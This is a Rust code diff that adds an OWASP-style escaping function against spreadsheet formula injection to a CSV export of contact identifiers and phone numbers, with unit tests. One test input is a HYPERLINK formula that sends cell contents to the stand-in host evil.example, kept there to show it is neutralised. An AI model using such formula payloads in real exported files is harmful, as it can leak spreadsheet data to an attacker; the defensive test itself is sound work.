@@ -524,6 +524,25 @@ fn item_report(
     }
 }
 
+/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
+/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return gets a leading `'` so it stays text, and any cell
+/// so changed, or holding a comma, quote or line break, is quoted with
+/// its quotes doubled.
+pub fn csv_cell(field: &str) -> String {
+    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let field = if formula {
+        format!("'{field}")
+    } else {
+        field.to_string()
+    };
+    if formula || field.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", field.replace('"', "\"\""))
+    } else {
+        field
+    }
+}
+
 /// `YYYY-MM-DDTHH:MM:SSZ` for a Unix time.
 pub fn rfc3339(unix: i64) -> String {
     let days = unix.div_euclid(86_400);
@@ -571,13 +590,7 @@ fn export(s: Session, args: ExportArgs) -> Result<(), Failure> {
         ));
         return Ok(());
     }
-    let csv = |f: &str| {
-        if f.contains([',', '"', '\n']) {
-            format!("\"{}\"", f.replace('"', "\"\""))
-        } else {
-            f.to_string()
-        }
-    };
+    let csv = csv_cell;
     println!("instance,jid,lid,number,changed_at");
     for k in rows {
         println!(
@@ -585,8 +598,8 @@ fn export(s: Session, args: ExportArgs) -> Result<(), Failure> {
             csv(&k.instance),
             csv(&k.jid),
             csv(k.lid.as_deref().unwrap_or_default()),
-            phone_digits(&k.jid).unwrap_or_default(),
-            rfc3339(k.changed_at)
+            csv(phone_digits(&k.jid).unwrap_or_default()),
+            csv(&rfc3339(k.changed_at))
         );
     }
     Ok(())
@@ -595,6 +608,21 @@ fn export(s: Session, args: ExportArgs) -> Result<(), Failure> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_never_run_as_formulas() {
+        assert_eq!(csv_cell("sales"), "sales");
+        assert_eq!(csv_cell("a,b"), "\"a,b\"");
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
+        );
+        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
+            let cell = csv_cell(risky);
+            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
+        }
+        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
+    }
 
     #[test]
     fn rfc3339_dates() {
